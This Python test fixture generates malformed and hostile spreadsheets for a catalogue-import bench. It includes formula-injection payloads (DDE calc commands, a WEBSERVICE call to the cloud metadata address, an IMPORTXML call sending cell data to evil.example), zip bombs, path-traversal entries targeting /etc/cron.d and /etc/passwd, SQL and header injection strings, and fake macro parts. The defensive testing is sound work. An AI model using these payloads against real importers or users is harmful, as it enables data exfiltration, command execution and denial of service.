"""Spreadsheets that nobody should send, made to upset whatever opens them. Each is named by its trick."""

import io
import random
import zipfile
import zlib
from collections.abc import Iterator

from bench.hostile_markup import cell_tricks, markup_tricks
from bench.picture_bytes import PAYLOAD, Named
from bench.workbook_parts import (
    SHEET,
    WORKBOOK,
    header_row,
    honest,
    honest_csv,
    inline,
    packed,
    parts_of,
    sheet,
    with_parts,
)
from tests.catalogue.imports.spreadsheets import GOODS, csv_bytes, table, xlsx_bytes

FORMULAS = (
    "=1+1",
    '=HYPERLINK("https://evil.example","x")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    '=WEBSERVICE("http://169.254.169.254/latest/meta-data")',
    '=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
    '=DDE("cmd";"/C calc";"x")',
    "'=1+1",
    '"=1+1',
)


def spoilt() -> Iterator[Named]:
    """Yield honest files cut off, lengthened, and with bytes changed at random."""
    for name, data in {"xlsx": honest(), "csv": honest_csv()}.items():
        for tenth in (1, 3, 5, 8, 9):
            yield f"{name} cut at {tenth}0 %", data[: len(data) * tenth // 10]
        for length in (4, 30, len(data) - 1, len(data) - 22):
            yield f"{name} cut at {length}", data[:length]
        yield f"{name} and html", data + PAYLOAD
        yield f"html and {name}", PAYLOAD + data
        for seed in range(8):
            dice = random.Random(f"{name} {seed}")
            wrong = bytearray(data)
            for _ in range(1 + seed * 3):
                wrong[dice.randrange(len(wrong))] = dice.randrange(256)
            yield f"{name} flipped {seed}", bytes(wrong)


def bombs() -> Iterator[Named]:
    """Yield zips that unfold to far more than they are."""
    zeros = bytes(300_000_000)
    yield "a sheet of 300 MB", with_parts(sheet=zeros)
    yield "strings of 300 MB", with_parts(strings=zeros)
    yield "31 MB of blanks in the sheet", with_parts(sheet=sheet(b" " * 31_000_000))
    yield "one text of 31 MB", with_parts(sheet=sheet(b"<row>" + inline(b"a" * 31_000_000) + b"</row>"))
    text = b"<si><t>" + b"a" * 31_000_000 + b"</t></si>"
    yield "one shared text of 31 MB", with_parts(strings=b"<sst>" + text + b"</sst>")
    yield (
        "two million shared texts",
        with_parts(strings=b"<sst>" + b"<si><t>a</t></si>" * 1_900_000 + b"</sst>"),
    )
    yield (
        "490,000 shared texts",
        with_parts(strings=b"<sst>" + b"<si><t>a</t></si>" * 490_000 + b"</sst>"),
    )
    wide = b"<row>" + b"<c><v>1</v></c>" * 100 + b"</row>"
    yield "a million numbers", with_parts(sheet=sheet(header_row() + wide * 10_000))
    wordy = b"<row>" + inline(b"ab") * 100 + b"</row>"
    yield "700,000 words", with_parts(sheet=sheet(header_row() + wordy * 6_900))
    formula = b"<row>" + b"<c><f>A1</f></c>" * 100 + b"</row>"
    yield "a million formulas", with_parts(sheet=sheet(header_row() + formula * 10_000))
    failed = b"<row>" + b'<c t="e"><v>#N/A</v></c>' * 100 + b"</row>"
    yield "a million errors", with_parts(sheet=sheet(header_row() + failed * 10_000))
    long_text = b"<sst><si><t>" + b"a" * 32_000 + b"</t></si></sst>"
    shared = b"<row>" + b'<c t="s"><v>0</v></c>' * 100 + b"</row>"
    yield "32,000 letters in a million cells", with_parts(strings=long_text, sheet=sheet(shared * 10_000))
    yield (
        "32,000 letters in 2,000 cells",
        with_parts(strings=long_text, sheet=sheet(header_row() + shared * 20)),
    )
    yield "a million merged cells", with_parts(sheet=sheet(b"") + b'<mergeCell ref="A1:B2"/>' * 1_000_000)
    yield (
        "attributes without end",
        with_parts(sheet=b"<worksheet " + b"".join(b'a%d="" ' % n for n in range(200_000)) + b"/>"),
    )
    yield "an attribute of 31 MB", with_parts(sheet=b'<worksheet a="' + b"a" * 31_000_000 + b'"/>')
    yield "elements in elements", with_parts(sheet=b"<a>" * 1_000_000)
    yield "a comment of 31 MB", with_parts(sheet=b"<!--" + b"a" * 31_000_000 + b"-->" + sheet(header_row()))
    inner = packed({"x": zeros[:50_000_000]})
    yield "a zip in a zip", packed({f"xl/media/{n}.zip": inner for n in range(1_000)})
    yield "2,001 parts", packed({f"xl/worksheets/{n}.xml": b"" for n in range(2_001)})
    yield (
        "1,900 sheets",
        packed(parts_of(honest()) | {f"xl/worksheets/s{n}.xml": sheet(b"") for n in range(1_900)}),
    )
    yield "overlapping entries", overlapping()
    yield "a part that says 4 GB", lying_about_its_size(2**32 - 2)
    yield "a part that says 1 byte", lying_about_its_size(1)


def overlapping() -> bytes:
    """Return a zip whose directory names the same compressed bytes a hundred times."""
    data = packed({SHEET: bytes(20_000_000), WORKBOOK: b"<workbook/>"})
    at = data.index(b"PK\x01\x02")
    end = data.index(b"PK\x05\x06")
    entry = data[at : data.index(b"PK\x01\x02", at + 4)]
    entries = b"".join(entry.replace(b"sheet1.xml", b"sh%04d.xml" % n) for n in range(100))
    tail = bytearray(data[end:])
    tail[8:12] = (101).to_bytes(2, "little") * 2
    tail[12:16] = (len(entries) + end - at).to_bytes(4, "little")
    return data[:at] + entries + data[at:end] + bytes(tail)


def lying_about_its_size(size: int) -> bytes:
    """Return the honest workbook whose directory says that the sheet unfolds to ``size``."""
    data = bytearray(honest())
    at = data.index(SHEET.encode(), data.index(b"PK\x01\x02")) - 46
    data[at + 24 : at + 28] = size.to_bytes(4, "little")
    return bytes(data)


def wrong_kinds() -> Iterator[Named]:
    """Yield files that are something else under the name of a spreadsheet."""
    parts = parts_of(honest())
    compound = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
    binary = compound + bytes(3_000)
    yield "xls", binary
    yield "xls with macros", binary + "VBA".encode("utf-16-le")
    yield "encrypted workbook", binary + "EncryptedPackage".encode("utf-16-le")
    yield "xlsm", packed(parts | {"xl/vbaProject.bin": compound + b"Auto_Open" * 500})
    yield "xlsb", packed({"xl/workbook.bin": bytes(500), "[Content_Types].xml": b"<Types/>"})
    yield (
        "ods",
        packed({"mimetype": b"application/vnd.oasis.opendocument.spreadsheet", "content.xml": b"<a/>"}),
    )
    yield "docx", packed({"word/document.xml": b"<a/>"})
    yield "jar", packed({"META-INF/MANIFEST.MF": b"Main-Class: X"})
    yield (
        "external links and connections",
        packed(
            parts
            | {
                "xl/externalLinks/externalLink1.xml": b"<a/>",
                "xl/connections.xml": b"<connections/>",
                "customUI/customUI.xml": b"<a onLoad='x'/>",
                "xl/embeddings/x.exe": b"MZ" * 500,
            }
        ),
    )
    yield (
        "names that climb",
        packed(
            parts
            | {
                "../../../../etc/cron.d/x": b"* * * * * root x",
                "/etc/passwd": b"x",
                "xl\\..\\..\\x": b"x",
                "xl/worksheets/../../../x.xml": b"x",
                "C:\\x": b"x",
                "a" * 60_000: b"x",
            }
        ),
    )
    doubled = io.BytesIO(honest())
    with zipfile.ZipFile(doubled, "a") as archive:
        archive.writestr(zipfile.ZipInfo(SHEET), sheet(header_row()))
    yield "two parts of one name", doubled.getvalue()
    locked = bytearray(honest())
    for mark, flag in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = locked.find(mark)
        while at >= 0:
            locked[at + flag] |= 1
            at = locked.find(mark, at + 4)
    yield "parts behind a password", bytes(locked)
    for name, method in {"bzip2": zipfile.ZIP_BZIP2, "lzma": zipfile.ZIP_LZMA}.items():
        yield f"{name} inside", packed(parts, method)
    yield "stored", packed(parts, zipfile.ZIP_STORED)
    yield "an empty zip", b"PK\x05\x06" + bytes(18)
    yield "pdf", b"%PDF-1.7 " + bytes(500)
    yield "program", b"MZ" + bytes(3_000)
    yield "html as xls", b"<html><table><tr><td>" + PAYLOAD
    yield "xml of 2003", b'<?xml version="1.0"?><?mso-application progid="Excel.Sheet"?><Workbook/>'
    yield "gzip", zlib.compress(honest_csv(), wbits=31)
    yield "slk", b"ID;PWXL;N;E\nC;Y1;X1;E=cmd|'/C calc'!A0"
    yield "more than 10 MB", bytes([65]) * 11_000_000


def text_tricks() -> Iterator[Named]:
    """Yield text tables of wrong encodings, without end, or with something to run."""
    for number, formula in enumerate(FORMULAS):
        cells = table({**GOODS, "sku": f"F-{number}", "name_vi": formula, "storage_vi": formula})
        yield f"csv with {formula[:20]!r}", csv_bytes(cells)
        yield f"xlsx with {formula[:20]!r}", xlsx_bytes(cells)
    yield (
        "formulas that spreadsheets count",
        xlsx_bytes(table(GOODS), lambda _book, page: page.write_formula(1, 1, FORMULAS[1])),
    )
    for encoding in ("utf-16-le", "utf-16-be", "utf-32", "utf-7", "cp1258", "shift_jis"):
        yield f"csv in {encoding}", honest_csv().decode().encode(encoding, "replace")
    yield "10 million columns", b"," * 9_900_000 + b"\n"
    yield "header and 10 million columns", honest_csv() + b"," * 9_900_000
    yield "5 million empty rows", honest_csv() + b"\n" * 9_900_000
    yield "5 million rows of one comma", honest_csv() + b",\n" * 4_900_000
    yield "a million cells", csv_bytes([list(GOODS)]) + (b"a," * 99 + b"a\n") * 10_000
    yield "a million cells of emoji", csv_bytes([list(GOODS)]) + ("😀," * 99 + "😀\n").encode() * 10_000
    yield (
        "10,000 rows of nothing right",
        csv_bytes([list(GOODS)]) + (b"x," * (len(GOODS) - 1) + b"x\n") * 10_000,
    )
    full = csv_bytes(
        table(*({**GOODS, "sku": f"S-{n}", "ingredients_vi": "ớt " * 200} for n in range(9_990)))
    )
    yield "9,990 rows as long as can be", full[: full.rfind(b"\n", 0, 10_000_000) + 1]
    yield "one SKU 10,000 times", csv_bytes(table(*[GOODS] * 10_000))
    yield "a cell of 9 MB", csv_bytes(table({**GOODS, "name_vi": "a" * 9_000_000}))
    yield "a quote left open", honest_csv() + b'"' + b"a\n" * 4_000_000
    yield "quotes without end", honest_csv() + b'"' * 9_000_000
    yield "a header of 9 MB", b"a" * 9_000_000 + b"\n1\n"
    yield "carriage returns", honest_csv() + b"\r" * 9_000_000
    yield (
        "marks of other writing",
        csv_bytes(table({**GOODS, "name_vi": "\u202egnp.exe\u200b\ufeff\u2066" * 20})),
    )
    yield "combining marks", csv_bytes(table({**GOODS, "name_vi": "a" + "\u0301" * 5_000}))
    yield "NULs", honest_csv().replace(b"HTX", b"H\0X")
    yield "half of a pair", honest_csv() + b"\xed\xa0\x80,\n"
    yield "html in every cell", csv_bytes(table(dict.fromkeys(GOODS, PAYLOAD.decode("latin-1"))))
    for sku in ("../../etc/passwd", "'; DROP TABLE x; --", "%s%n", "{0.__class__}", "a\r\nSet-Cookie: x=1"):
        yield f"SKU {sku[:12]!r}", csv_bytes(table({**GOODS, "sku": sku}))
    for price in ("9" * 400, "-1", "1e308", "NaN", "0x10", "١٢٣", "1" + "0" * 19, "=1"):
        yield f"price {price[:12]!r}", csv_bytes(table({**GOODS, "sku": "P-1", "price_vnd": price}))


FAMILIES = (spoilt, bombs, markup_tricks, cell_tricks, wrong_kinds, text_tricks)


def tables() -> Iterator[Named]:
    """Yield all spreadsheets."""
    for family in FAMILIES:
        for name, data in family():
            yield f"{family.__name__}: {name}", data
